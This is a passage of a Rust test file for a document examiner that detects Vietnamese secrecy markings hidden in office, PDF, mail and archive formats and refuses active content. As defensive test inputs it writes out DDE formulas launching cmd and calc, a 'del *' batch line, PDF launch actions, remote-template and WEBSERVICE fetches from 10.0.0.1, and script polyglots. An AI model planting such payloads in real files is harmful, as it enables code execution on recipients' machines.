//! Files as offices and as attackers make them, each made here: what is found in them.

use std::io::Cursor;

use examine::attachment::{Active, Kind, Marking, Part, Refusal, examine, is_marked_name};
use zip::{ZipWriter, write::SimpleFileOptions};

use crate::made::{
    HELVETICA, PLAIN, docx, font_of_marking, office, ole, package, page, pe, stream, utf16, xlsx,
    zip,
};

fn reason(bytes: &[u8]) -> Option<Refusal> {
    examine(bytes).err().map(|why| why.root().0.clone())
}

#[test]
fn markings_are_found_wherever_a_person_meets_them() {
    let rtf = br"{\rtf1 M\u7852?T\par}";
    let part = |name: &'static str, text: &'static str| docx("", &[(name, text.as_bytes())]);
    let p = "<w:p><w:r><w:t>MẬT</w:t></w:r></w:p>";
    let annotation = |entry: &str| {
        page(
            PLAIN,
            HELVETICA,
            "/Annots [6 0 R]",
            "/AcroForm << /Fields [6 0 R] >>",
            &[format!("<< /Type /Annot /Rect [1 1 2 2] {entry} >>")],
        )
    };
    let mut drawn = font_of_marking();
    drawn.push("<< /Type /Annot /Subtype /Stamp /Rect [1 1 2 2] /AP << /N 9 0 R >> >>".into());
    drawn.push(stream(
        "/Type /XObject /Subtype /Form /BBox [0 0 90 20] /Resources << /Font << /F2 6 0 R >> >>",
        "BT /F2 14 Tf 1 1 Td <010203> Tj ET",
    ));
    let mail = ole(&[
        ("/__properties_version1.0", b"x"),
        ("/__substg1.0_0037001F", &utf16("Kế hoạch")),
        ("/__substg1.0_1000001F", &utf16("Kính gửi\r\nTỐI MẬT\r\n")),
    ]);
    let attached = ole(&[
        ("/__properties_version1.0", b"x"),
        ("/__substg1.0_1000001F", &utf16("Kính gửi")),
        (
            "/__attach_version1.0_#00000000/__substg1.0_3707001F",
            &utf16("a.rtf"),
        ),
        ("/__attach_version1.0_#00000000/__substg1.0_37010102", rtf),
    ]);
    for (case, bytes) in [
        ("text box", docx(&format!("<w:p><w:r><w:t>UBND</w:t></w:r><w:r><mc:AlternateContent><mc:Choice><wps:txbx><w:txbxContent>{p}</w:txbxContent></wps:txbx></mc:Choice></mc:AlternateContent></w:r></w:p>"), &[])),
        ("cell of a table", docx(&format!("<w:tbl><w:tr><w:tc><w:p><w:r><w:t>UBND</w:t></w:r></w:p></w:tc><w:tc>{p}</w:tc></w:tr></w:tbl>"), &[])),
        ("watermark", docx("<w:p><w:r><w:pict><v:shape><v:textpath string='TUYỆT MẬT'/></v:shape></w:pict></w:r></w:p>", &[])),
        ("header", part("word/header2.xml", "<w:hdr><w:p><w:r><w:t>MẬT</w:t></w:r></w:p></w:hdr>")),
        ("footnote", part("word/footnotes.xml", "<w:footnotes><w:p><w:r><w:t>MẬT</w:t></w:r></w:p></w:footnotes>")),
        ("drawing of VML", part("xl/drawings/vmlDrawing1.vml", "<xml><v:shape><v:textpath string='MẬT'/></v:shape></xml>")),
        ("keywords", part("docProps/core.xml", "<cp:coreProperties><cp:keywords>Mật</cp:keywords></cp:coreProperties>")),
        ("property", part("docProps/custom.xml", "<Properties><property name='Classification'><vt:lpwstr>Tối mật</vt:lpwstr></property></Properties>")),
        ("style in capitals", docx("<w:p><w:pPr><w:pStyle w:val='Dau'/></w:pPr><w:r><w:t>tối mật</w:t></w:r></w:p>", &[("word/styles.xml", b"<w:styles><w:style w:styleId='Dau'><w:rPr><w:caps/></w:rPr></w:style></w:styles>")])),
        ("part in UTF-16", docx("", &[("word/header1.xml", &[b"\xff\xfe", utf16(&format!("<w:hdr>{p}</w:hdr>")).as_slice()].concat())])),
        ("chunk of RTF", docx("", &[("word/afchunk.rtf", rtf)])),
        ("document in a document", docx("", &[("word/embeddings/a.docx", &docx(p, &[]))])),
        ("name of a sheet", office("xl/workbook.xml", "<workbook><sheets><sheet name='MẬT'/></sheets></workbook>", &[])),
        ("comment", xlsx(&[("xl/comments1.xml", "<comments><comment><text><r><t>TỐI </t></r><r><t>MẬT</t></r></text></comment></comments>".as_bytes())])),
        ("shape of a sheet", xlsx(&[("xl/drawings/drawing1.xml", "<xdr:wsDr><a:p><a:r><a:t>MẬT</a:t></a:r></a:p></xdr:wsDr>".as_bytes())])),
        ("heading of a sheet", xlsx(&[("xl/worksheets/sheet1.xml", "<worksheet><headerFooter><oddHeader>&amp;C&amp;\"Arial,Bold\"MẬT</oddHeader></headerFooter></worksheet>".as_bytes())])),
        ("inline text", xlsx(&[("xl/worksheets/sheet1.xml", "<worksheet><c t='inlineStr'><is><t>MẬT</t></is></c></worksheet>".as_bytes())])),
        ("slide", office("ppt/presentation.xml", "<p:presentation/>", &[("ppt/slides/slide1.xml", "<p:sld><a:p><a:r><a:rPr cap='all'/><a:t>mật</a:t></a:r></a:p></p:sld>".as_bytes())])),
        ("drawing of Visio", office("visio/document.xml", "<VisioDocument/>", &[("visio/pages/page1.xml", "<PageContents><Shape><Text>MẬT</Text></Shape></PageContents>".as_bytes())])),
        ("header of OpenDocument", zip(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("styles.xml", "<office:styles><style:header><text:p>MẬT</text:p></style:header></office:styles>".as_bytes())])),
        ("text box of OpenDocument", zip(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", "<office:text><text:p>UBND<draw:frame><draw:text-box><text:p>MẬT</text:p></draw:text-box></draw:frame></text:p></office:text>".as_bytes())])),
        ("table of OpenDocument", zip(&[("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", "<office:spreadsheet><table:table table:name='TỐI MẬT'/></office:spreadsheet>".as_bytes())])),
        ("keyword of OpenDocument", zip(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("meta.xml", "<office:meta><meta:keyword>Mật</meta:keyword></office:meta>".as_bytes())])),
        ("sheet in an archive", zip(&[("a.xlsx", &xlsx(&[("xl/sharedStrings.xml", "<sst><si><t>MẬT</t></si></sst>".as_bytes())]))])),
        ("name in an archive", zip(&[("TỐI MẬT_kế hoạch.txt", b"x"), ("TỐI MẬT.txt", b"x")])),
        ("text of Windows-1258", b"UBND\r\nM\xc2\xf2T\r\n".to_vec()),
        ("text of TCVN3", b"UBND t\xd8nh \xb8\r\nT\xe8I M\xcbT\r\n".to_vec()),
        ("text of VNI", b"UBND\r\nTUYE\xc4T MA\xc4T\r\n".to_vec()),
        ("text of UTF-16", [b"\xfe\xff".to_vec(), "MẬT\r\n".encode_utf16().flat_map(u16::to_be_bytes).collect()].concat()),
        ("Word of 2003 as XML", "<?xml version='1.0'?><?mso-application progid=\"Word.Document\"?><w:wordDocument><w:p><w:r><w:rPr><w:caps/></w:rPr><w:t>mật</w:t></w:r></w:p></w:wordDocument>".as_bytes().to_vec()),
        ("annotation", annotation("/Subtype /FreeText /Contents <feff004d1eac0054>")),
        ("field", annotation("/Subtype /Widget /FT /Tx /V <feff0054005500591ec600540020004d1eac0054>")),
        ("rich text", annotation("/Subtype /FreeText /RC (<body><p>M&#7852;T</p></body>)")),
        ("appearance of a stamp", page(PLAIN, HELVETICA, "/Annots [8 0 R]", "", &drawn)),
        ("beside a letterhead", page("BT /F1 14 Tf 72 780 Td (UBND TINH) Tj ET BT /F2 14 Tf 160 780 Td <010203> Tj ET", HELVETICA, "", "", &font_of_marking())),
        ("across the page", page("BT /F2 40 Tf 0.7 0.7 -0.7 0.7 100 100 Tm <010203> Tj ET BT /F1 14 Tf 72 700 Td (Bien ban) Tj ET", HELVETICA, "", "", &font_of_marking())),
        ("letter by letter", page("BT /F2 14 Tf 300 780 Td <01> Tj ET BT /F2 14 Tf 320 780 Td <03> Tj ET BT /F2 14 Tf 310 780 Td <02> Tj ET", HELVETICA, "", "", &font_of_marking())),
        ("legacy font of a PDF", page("BT /F1 14 Tf 72 780 Td (m\\313t) Tj ET", "/Subtype /Type1 /BaseFont /ABCDEF+.VnTimeH /Encoding /WinAnsiEncoding", "", "", &[])),
        ("outline", page(PLAIN, HELVETICA, "", "/Outlines << /First << /Title <feff004d1eac0054> >> >>", &[])),
        ("attached file", page(PLAIN, HELVETICA, "", "/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.rtf) /EF << /F 6 0 R >> >>] >> >>", &[stream("/Type /EmbeddedFile", std::str::from_utf8(rtf).unwrap())])),
        ("Word before 2007", ole(&[("/WordDocument", &[vec![0; 64], utf16("UBND\rTUYỆT MẬT\rSố 5\r")].concat())])),
        ("Word before 2007 in TCVN3", ole(&[("/WordDocument", &[vec![0; 64], b"UBND\rT\xe8I M\xcbT\r".to_vec()].concat())])),
        ("Excel before 2007", ole(&[("/Workbook", &[vec![0xfc, 0, 20, 0, 1, 0, 0, 0, 1, 0, 0, 0, 3, 0, 1], utf16("MẬT"), vec![5, 0, 0]].concat())])),
        ("stamp in small letters", docx("<w:p><w:r><w:t>UBND TỈNH</w:t></w:r></w:p><w:p><w:r><w:t>Tối mật</w:t></w:r></w:p><w:p><w:r><w:t>Số: 05/BC</w:t></w:r></w:p>", &[])),
        ("stamp in small letters on each page", part("word/header1.xml", "<w:hdr><w:p><w:r><w:t>Mật</w:t></w:r></w:p></w:hdr>")),
        ("capitals of the whole document", docx("<w:p><w:r><w:t>mật</w:t></w:r></w:p>", &[("word/styles.xml", b"<w:styles><w:docDefaults><w:rPrDefault><w:rPr><w:caps/></w:rPr></w:rPrDefault></w:docDefaults></w:styles>")])),
        ("numbering", part("word/numbering.xml", "<w:numbering><w:lvl><w:lvlText w:val='MẬT'/></w:lvl></w:numbering>")),
        ("letters by number", docx("<w:p><w:r><w:sym w:font='Times New Roman' w:char='004D'/><w:sym w:font='Times New Roman' w:char='1EAC'/><w:sym w:font='Times New Roman' w:char='0054'/></w:r></w:p>", &[])),
        ("backwards", docx("<w:p><w:r><w:t>\u{202e}TẬM</w:t></w:r></w:p>", &[])),
        ("field that quotes", docx("<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>QUOTE \"MẬT\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", &[])),
        ("formula without a value", xlsx(&[("xl/worksheets/sheet1.xml", "<worksheet><c><f>\"M\"&amp;\"ẬT\"</f></c></worksheet>".as_bytes())])),
        ("typed in ASCII", b"UBND TINH\r\nMA^.T\r\nSo: 05\r\n".to_vec()),
        ("piece of a page", b"<p>M&#7852;T</p>".to_vec()),
        ("comment of an archive", {
            let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
            zip.start_file("a.txt", SimpleFileOptions::default()).unwrap();
            zip.set_comment("TỐI MẬT").unwrap();
            zip.finish().unwrap().into_inner()
        }),
        ("RTF without its third letter", br"{\rt1 M\u7852?T\par}".to_vec()),
        ("upright beside a letterhead", page("BT /F1 14 Tf 72 780 Td (UBND TINH) Tj 0 -20 Td (SO NOI VU) Tj 0 -20 Td (So: 05) Tj ET BT /F2 14 Tf 400 780 Td <01> Tj 0 -20 Td <02> Tj 0 -20 Td <03> Tj ET", HELVETICA, "", "", &font_of_marking())),
        ("text of a mail", mail),
        ("file in a mail", attached),
    ] {
        assert_eq!(examine(&bytes), Err(Refusal::Marked), "{case}");
    }
    assert!(is_marked_name("TUYỆT MẬT_phuong an.docx") && is_marked_name("Kế hoạch (MẬT).pdf"));
    assert!(!is_marked_name("Đổi mật khẩu.docx") && !is_marked_name("BẢO MẬT.docx"));
}

#[test]
fn what_was_not_looked_at_is_said() {
    let unmapped = "/Subtype /Type1 /BaseFont /X /FirstChar 1 /LastChar 3 /Widths [700 700 700] /Encoding << /Differences [1 /g1 /g2 /g3] >>";
    let image = stream("/Type /XObject /Subtype /Image /Width 9 /Height 9", "x");
    for (case, bytes, marking, unread) in [
        ("docx", docx("", &[]), Marking::None, &[][..]),
        (
            "docx with a picture",
            docx("", &[("word/media/a.png", b"\x89PNG\r\n\x1a\n")]),
            Marking::Partly,
            &[Part::Pictures],
        ),
        (
            "docx with a metafile",
            docx("", &[("word/media/a.emf", b"\x01\0\0\0\x6c\0\0\0")]),
            Marking::Partly,
            &[Part::Pictures],
        ),
        (
            "docx with an equation",
            docx(
                "",
                &[(
                    "word/embeddings/oleObject1.bin",
                    &ole(&[("/\u{1}CompObj", b"x"), ("/Equation Native", b"x")]),
                )],
            ),
            Marking::Partly,
            &[Part::Objects],
        ),
        (
            "docx with a workbook",
            docx("", &[("word/embeddings/a.xlsx", &xlsx(&[]))]),
            Marking::None,
            &[],
        ),
        (
            "a picture",
            b"\x89PNG\r\n\x1a\n".to_vec(),
            Marking::Unread,
            &[Part::Pictures],
        ),
        (
            "pictures in an archive",
            zip(&[("a.jpg", b"\xff\xd8\xff\xe0")]),
            Marking::Unread,
            &[Part::Pictures],
        ),
        (
            "picture of a telephone",
            b"\0\0\0\x18ftypheic\0\0\0\0".to_vec(),
            Marking::Unread,
            &[Part::Pictures],
        ),
        (
            "pdf",
            page(PLAIN, HELVETICA, "", "", &[]),
            Marking::None,
            &[],
        ),
        (
            "pdf with a picture",
            page(PLAIN, HELVETICA, "", "", std::slice::from_ref(&image)),
            Marking::Partly,
            &[Part::Pictures],
        ),
        (
            "scan",
            page("q Q", HELVETICA, "", "/Info << /Title (Scan) >>", &[image]),
            Marking::Unread,
            &[Part::Pictures],
        ),
        (
            "letters without names",
            page(
                "BT /F1 14 Tf 72 780 Td <010203> Tj ET BT /F2 14 Tf 72 700 Td (Bien ban) Tj ET",
                unmapped,
                "",
                "",
                &[format!("<< /Type /Font {HELVETICA} >>")],
            ),
            Marking::Partly,
            &[Part::Glyphs],
        ),
        (
            "damaged pdf",
            b"%PDF-1.7 x".to_vec(),
            Marking::Unread,
            &[Part::Damaged],
        ),
        (
            "rtf with a picture",
            br"{\rtf1 Bi\u234?n b\u7843?n{\pict 00}\par}".to_vec(),
            Marking::Partly,
            &[Part::Pictures],
        ),
        (
            "broken mail of Outlook",
            {
                let mut bytes = ole(&[("/__properties_version1.0", b"x")]);
                bytes[0x1c] ^= 0xff;
                bytes
            },
            Marking::Partly,
            &[Part::Damaged],
        ),
        (
            "equation in Word before 2007",
            ole(&[
                (
                    "/WordDocument",
                    &[vec![0; 64], utf16("Biên bản\r")].concat(),
                ),
                ("/ObjectPool/_1/Equation Native", b"x"),
            ]),
            Marking::Partly,
            &[Part::Objects, Part::Layout],
        ),
        (
            "Word before 2007",
            ole(&[(
                "/WordDocument",
                &[vec![0; 64], utf16("Biên bản\r")].concat(),
            )]),
            Marking::Partly,
            &[Part::Layout],
        ),
    ] {
        let examined = examine(&bytes).unwrap_or_else(|e| panic!("{case}: {e}"));
        assert_eq!(
            (examined.marking, examined.unread.as_slice()),
            (marking, unread),
            "{case}"
        );
    }
}

#[test]
fn what_acts_is_refused() {
    let exe: &[u8] = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0";
    let relation = |kind: &str, target: &str| -> Vec<u8> {
        format!("<Relationships><Relationship Type='http://s/{kind}' Target='{target}' TargetMode='External'/></Relationships>").into_bytes()
    };
    let mut jpeg = b"\xff\xd8\xff\xe0JFIF".to_vec();
    jpeg.extend(zip(&[("x.txt", b"x")]));
    let mut pdf_and_zip = page(PLAIN, HELVETICA, "", "", &[]);
    pdf_and_zip.extend(zip(&[("x.txt", b"x")]));
    let mut zip_after_zip = zip(&[("x.txt", b"x")]);
    zip_after_zip.extend(zip(&[("y.txt", b"y")]));
    let mut picture_and_pdf = b"\xff\xd8\xff\xe0".to_vec();
    picture_and_pdf.extend(page(PLAIN, HELVETICA, "", "", &[]));
    let attached = |name: &str, file: &str| {
        page(
            PLAIN,
            HELVETICA,
            "",
            &format!(
                "/Names << /EmbeddedFiles << /Names [(a) << /F ({name}) /EF << /F 6 0 R >> >>] >> >>"
            ),
            &[stream("/Type /EmbeddedFile", file)],
        )
    };
    let sheet = |kind: u8| ole(&[("/Workbook", &[0x85, 0, 8, 0, 0, 0, 0, 0, 0, kind, 0, 0])]);
    let program = |bytes: &[u8]| matches!(reason(bytes), Some(Refusal::Program(_)));
    for (case, bytes) in [
        ("script in an archive", zip(&[("a/bao-cao.vbs", b"x = 1")])),
        (
            "shortcut",
            zip(&[("a.url", b"[InternetShortcut]\r\nURL=x")]),
        ),
        ("autorun", zip(&[("AUTORUN.INF", b"[autorun]")])),
        (
            "batch file in UTF-16",
            [b"\xff\xfe".to_vec(), utf16("@echo off\r\ndel *")].concat(),
        ),
        (
            "program as an icon",
            docx(
                "",
                &[(
                    "word/embeddings/oleObject1.bin",
                    &ole(&[("/\u{1}Ole10Native", &package("a.txt", exe))]),
                )],
            ),
        ),
        (
            "named program as an icon",
            docx(
                "",
                &[(
                    "word/embeddings/oleObject1.bin",
                    &ole(&[("/\u{1}Ole10Native", &package("a.js", b"x"))]),
                )],
            ),
        ),
        (
            "program in a document before 2007",
            ole(&[
                ("/WordDocument", &[0; 64]),
                ("/ObjectPool/_1/\u{1}Ole10Native", &package("a.exe", exe)),
            ]),
        ),
        (
            "program in a mail of Outlook",
            ole(&[
                ("/__properties_version1.0", b"x"),
                ("/__attach_version1.0_#00000000/__substg1.0_37010102", exe),
            ]),
        ),
        (
            "program in a picture of a document",
            docx("", &[("word/media/a.png", exe)]),
        ),
        (
            "program attached to a PDF",
            attached("a.txt", "MZ\u{1}\0\u{3}\0\0\0"),
        ),
        ("script attached to a PDF", attached("a.vbs", "x")),
        (
            "program in an object",
            docx(
                "",
                &[(
                    "word/embeddings/oleObject1.bin",
                    &ole(&[("/\u{1}Ole", b"x"), ("/CONTENTS", exe)]),
                )],
            ),
        ),
        (
            "program within an object",
            docx(
                "",
                &[(
                    "word/embeddings/oleObject1.bin",
                    &ole(&[
                        ("/\u{1}Ole", b"x"),
                        ("/CONTENTS", &[b"\x08\0\0\0", pe().as_slice()].concat()),
                    ]),
                )],
            ),
        ),
        (
            "program in a mail from before MIME",
            b"From: a@b\r\nSubject: x\r\n\r\nKinh gui\r\nbegin 644 a.exe\r\n#0V%T\r\n`\r\nend\r\n"
                .to_vec(),
        ),
        (
            "application of Android",
            zip(&[("AndroidManifest.xml", b"x")]),
        ),
        (
            "class of Java",
            zip(&[
                ("META-INF/MANIFEST.MF", b"x"),
                ("A.class", b"\xca\xfe\xba\xbe\0\0"),
            ]),
        ),
        (
            "installer",
            ole(&[("/x", b"\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0\x46")]),
        ),
        (
            "svg",
            b"<?xml version='1.0'?><!-- x --><svg onload='x'/>".to_vec(),
        ),
        (
            "page behind a comment",
            b"<!-- x --><html><script>x</script></html>".to_vec(),
        ),
    ] {
        assert!(program(&bytes), "{case}: {:?}", examine(&bytes));
    }
    for (case, bytes, why) in [
        ("remote template", docx("", &[("word/_rels/settings.xml.rels", &relation("attachedTemplate", "http://10.0.0.1/a.dotm"))]), Refusal::Active(Active::Remote)),
        ("remote object", docx("", &[("word/_rels/document.xml.rels", &relation("oleObject", r"\\10.0.0.1\a.docx"))]), Refusal::Active(Active::Remote)),
        ("DDE in Word", docx("<w:p><w:r><w:instrText>DDEAUTO c:\\\\a.exe</w:instrText></w:r></w:p>", &[]), Refusal::Active(Active::Dde)),
        ("DDE in Word before 2007", ole(&[("/WordDocument", &[vec![0; 64], b"\x13 DDEAUTO cmd \"/k\" \x14x\x15".to_vec()].concat())]), Refusal::Active(Active::Dde)),
        ("DDE in Excel", xlsx(&[("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>")]), Refusal::Active(Active::Dde)),
        ("DDE in CSV", b"a,b\r\n1,=cmd|'/c calc'!A0\r\n".to_vec(), Refusal::Active(Active::Dde)),
        ("DDE in OpenDocument", zip(&[("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", b"<a><table:dde-link><office:dde-source office:dde-application='cmd'/></table:dde-link></a>")]), Refusal::Active(Active::Dde)),
        ("sheet of macros", sheet(1), Refusal::Macros),
        ("renamed macros", zip(&[("[Content_Types].xml", b"<Types><Override ContentType='application/vnd.ms-office.vbaProject'/></Types>"), ("word/document.xml", b"<a/>")]), Refusal::Macros),
        ("script of OpenDocument", zip(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<a><script:event-listener xlink:href='vnd.sun.star.script:x$y?language=Python'/></a>")]), Refusal::Macros),
        ("script in a drawing", docx("", &[("word/media/a.svg", b"<svg onload='x'><script>x</script></svg>")]), Refusal::Active(Active::Script)),
        ("drawing that loads", docx("", &[("word/media/a.svg", b"<svg><image xlink:href='http://10.0.0.1/x.png'/></svg>")]), Refusal::Active(Active::Remote)),
        ("script in a PDF", page(PLAIN, HELVETICA, "", "/OpenAction << /S /JavaScript /JS (x) >>", &[]), Refusal::Active(Active::Script)),
        ("program started by a PDF", page(PLAIN, HELVETICA, "/AA << /O << /S /Launch /F (cmd.exe) >> >>", "", &[]), Refusal::Active(Active::Launch)),
        ("DDE put together by fields", docx("<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r><w:r><w:instrText> cmd \"/k\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>", &[]), Refusal::Active(Active::Dde)),
        ("workbook that fetches", xlsx(&[("xl/connections.xml", b"<connections><connection id='1' refreshOnLoad='1'/></connections>")]), Refusal::Active(Active::Remote)),
        ("workbook linked to a share", xlsx(&[("xl/externalLinks/_rels/externalLink1.xml.rels", &relation("externalLinkPath", r"file:///\\10.0.0.1\a.xlsx"))]), Refusal::Active(Active::Remote)),
        ("page that opens an address", page(PLAIN, HELVETICA, "/AA << /O << /S /URI /URI (http://x/) >> >>", "", &[]), Refusal::Active(Active::Remote)),
        ("page that opens a file in it", page(PLAIN, HELVETICA, "/AA << /O << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoToE /T << /R /C /N (a) >> >>] >> >>", "", &[]), Refusal::Active(Active::Launch)),
        ("part in Latin-1", docx("", &[("word/_rels/settings.xml.rels", &[b"<?xml version='1.0' encoding='ISO-8859-1'?><!-- \xe9 -->".to_vec(), relation("attachedTemplate", "http://10.0.0.1/a.dotm")].concat())]), Refusal::Broken),
        ("part in UTF-16 without its mark", docx("", &[("word/_rels/settings.xml.rels", &utf16(std::str::from_utf8(&relation("attachedTemplate", "http://10.0.0.1/a.dotm")).unwrap()))]), Refusal::Broken),
        ("part that declares names", docx("", &[("word/_rels/settings.xml.rels", &[b"<!DOCTYPE R [<!ENTITY x 'http://10.0.0.1/a.dotm'>]>".to_vec(), relation("attachedTemplate", "&x;")].concat())]), Refusal::Broken),
        ("main part of another name", docx("", &[("word/real.dat", b"<?xml version='1.0'?><w:document><w:p><w:r><w:instrText>DDEAUTO c:\\\\a.exe</w:instrText></w:r></w:p></w:document>")]), Refusal::Active(Active::Dde)),
        ("stamp in a part of another name", docx("", &[("word/real.dat", "<w:document><w:p><w:r><w:t>M</w:t></w:r><w:r><w:t>ẬT</w:t></w:r></w:p></w:document>".as_bytes())]), Refusal::Marked),
        ("formula that fetches in CSV", b"a,b\r\n=WEBSERVICE(\"http://10.0.0.1/a\"),1\r\n".to_vec(), Refusal::Active(Active::Dde)),
        ("flat OpenDocument that loads", b"<?xml version='1.0'?><office:document xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'><draw:image xlink:href='http://10.0.0.1/a.png'/></office:document>".to_vec(), Refusal::Active(Active::Remote)),
        ("flat OpenDocument with a module", b"<?xml version='1.0'?><office:document xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'><ooo:library-embedded ooo:name='M'>x</ooo:library-embedded></office:document>".to_vec(), Refusal::Macros),
        ("Word of 2003 behind a long comment", [b"<?xml version='1.0'?><!--".to_vec(), vec![b'x'; 5_000], b"--><w:wordDocument xmlns:w='http://schemas.microsoft.com/office/word/2003/wordml'><w:docPr><w:attachedTemplate w:val='http://10.0.0.1/e.dot'/></w:docPr></w:wordDocument>".to_vec()].concat(), Refusal::Active(Active::Remote)),
        ("Excel of 2003 that starts a program", b"<?xml version='1.0'?><Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'><Cell ss:Formula=\"=cmd|'/c calc'!A0\"/></Workbook>".to_vec(), Refusal::Active(Active::Dde)),
        ("page that opens a thread elsewhere", page(PLAIN, HELVETICA, "/AA << /O << /S /Thread /F (\\\\\\\\10.0.0.1\\\\a.pdf) /D 0 >> >>", "", &[]), Refusal::Active(Active::Remote)),
        ("media elsewhere", page(PLAIN, HELVETICA, "/AA << /O << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /F (\\\\\\\\10.0.0.1\\\\a.mp4) >> >> >> >> >>", "", &[]), Refusal::Active(Active::Remote)),
        ("stream elsewhere", page(PLAIN, HELVETICA, "", "", &[stream("/F << /FS /URL /F (http://10.0.0.1/x) >>", "")]), Refusal::Active(Active::Remote)),
        ("page of a file elsewhere", page(PLAIN, HELVETICA, "", "", &[stream("/Subtype /Form /Ref << /F (\\\\\\\\10.0.0.1\\\\a.pdf) /Page 0 >>", "")]), Refusal::Active(Active::Remote)),
        ("archive with two names for a file", {
            let mut bytes = zip(&[("a.exe", b"x")]);
            let at = bytes.windows(5).rposition(|w| w == b"a.exe").unwrap();
            bytes[at..at + 5].copy_from_slice(b"a.txt");
            bytes
        }, Refusal::Polyglot),
        ("picture that is an archive", jpeg, Refusal::Polyglot),
        ("PDF that is an archive", pdf_and_zip, Refusal::Polyglot),
        ("archive behind an archive", zip_after_zip, Refusal::Polyglot),
        ("picture that is a PDF", picture_and_pdf, Refusal::Polyglot),
        ("picture that is a page", b"GIF89a<script>alert(1)</script>".to_vec(), Refusal::Polyglot),
        ("locked OpenDocument", zip(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("META-INF/manifest.xml", b"<m><manifest:encryption-data/></m>")]), Refusal::Locked),
        ("locked workbook before 2007", ole(&[("/Workbook", &[0x2f, 0, 2, 0, 0, 0])]), Refusal::Locked),
    ] {
        assert_eq!(reason(&bytes), Some(why), "{case}");
    }
    let named = examine(&zip(&[("thư mục/a.bin", b"\0\x01\x02")])).unwrap_err();
    assert_eq!(
        named.root(),
        (&Refusal::Unknown, Some("thư mục/a.bin".into()))
    );
}

#[test]
fn what_offices_have_is_taken() {
    let apple: &[u8] = b"\0\x05\x16\x07\0\x02\0\0Mac OS X";
    let hyperlink: &[u8] = b"<Relationships><Relationship Type='http://s/hyperlink' Target='https://vinhlong.gov.vn/' TargetMode='External'/><Relationship Type='http://s/attachedTemplate' Target='file:///C:\\Mau\\ND30.dotx' TargetMode='External'/></Relationships>";
    let moved = |before: &[u8]| [before, page(PLAIN, HELVETICA, "", "", &[]).as_slice()].concat();
    let attached = page(
        PLAIN,
        HELVETICA,
        "",
        "/Names << /EmbeddedFiles << /Names [(a) << /F (hoa-don.xml) /EF << /F 6 0 R >> >>] >> >>",
        &[stream("/Type /EmbeddedFile", "<HDon><a>1</a></HDon>")],
    );
    for (case, bytes, kind) in [
        ("page with harmless actions", page(PLAIN, HELVETICA, "/AA << /O << /S /GoTo /D [3 0 R /Fit] >> /C << >> >>", "/OpenAction [3 0 R /Fit]", &[]), Kind::Pdf),
        ("list of the levels", docx("<w:p><w:r><w:t>UBND TỈNH</w:t></w:r></w:p><w:tbl><w:tr><w:tc><w:p><w:r><w:t>Độ mật</w:t></w:r></w:p></w:tc></w:tr><w:tr><w:tc><w:p><w:r><w:t>Mật</w:t></w:r></w:p></w:tc></w:tr></w:tbl>", &[]), Kind::Docx),
        ("workbook of Power Query", xlsx(&[("xl/connections.xml", b"<connections><connection id='1'><dbPr connection='Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=A' command='SELECT * FROM [A]'/></connection></connections>")]), Kind::Xlsx),
        ("text about uuencode", b"begin 644 a.txt of nothing\nend\n".to_vec(), Kind::Text),
        ("archive of macOS", zip(&[("a.txt", b"x"), ("__MACOSX/._a.txt", apple), (".DS_Store", b"\0\0\0\x01Bud1\0")]), Kind::Zip),
        ("archive with thumbnails", zip(&[("a.txt", b"x"), ("Thumbs.db", &ole(&[("/Catalog", b"x")])), ("desktop.ini", b"[.ShellClassInfo]")]), Kind::Zip),
        ("archive with a lock of Word", zip(&[("a.txt", b"x"), ("~$bao cao.docx", b"\x05admin\0\0\0")]), Kind::Zip),
        ("hyperlinks and a template of the writer's", docx("", &[("word/_rels/document.xml.rels", hyperlink)]), Kind::Docx),
        ("PDF behind line ends", moved(b"\r\n\r\n"), Kind::Pdf),
        ("PDF behind a mark", moved(b"\xef\xbb\xbf"), Kind::Pdf),
        ("PDF behind a printer's heading", moved(b"\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n"), Kind::Pdf),
        ("PDF with an invoice", attached, Kind::Pdf),
        ("text about scripts", b"README: <script> runs JavaScript; DDEAUTO, powershell.exe, cmd /c".to_vec(), Kind::Text),
        ("map", b"<?xml version='1.0'?><kml><description><![CDATA[<html><b>x</b></html>]]></description></kml>".to_vec(), Kind::Text),
        ("data", br#"{"html": "<script>"}"#.to_vec(), Kind::Text),
        ("console", b"R1>show run\r\n--More--\x08\x08\x08 hostname R1\r\n\x1b[0m".to_vec(), Kind::Text),
        ("Notepad", [b"\xff\xfe".to_vec(), utf16("Biên bản\r\n")].concat(), Kind::Text),
        ("table of DOS times", b"M\xf4 t\xe0,1\r\n".to_vec(), Kind::Text),
        ("Visio before 2013", ole(&[("/VisioDocument", b"x")]), Kind::Vsd),
        ("mail of Outlook", ole(&[("/__properties_version1.0", b"x"), ("/__substg1.0_1000001F", &utf16("Kính gửi"))]), Kind::Msg),
        ("document as an icon", docx("", &[("word/embeddings/oleObject1.bin", &ole(&[("/\u{1}Ole10Native", &package("a.txt", b"Bien ban"))]))]), Kind::Docx),
